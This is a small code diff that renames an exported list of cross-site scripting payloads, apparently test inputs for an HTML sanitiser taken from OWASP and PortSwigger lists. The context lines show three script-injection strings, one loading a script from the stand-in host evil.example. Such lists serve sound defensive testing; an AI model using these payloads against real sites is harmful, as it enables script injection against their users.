@@ -1,5 +1,5 @@
 /** Attacks by HTML (T14), from OWASP's filter evasion sheet, PortSwigger's list and past flaws of sanitisers. */
-export const xss_payloads = [
+export const xssPayloads = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<script/x>alert(1)</script>',
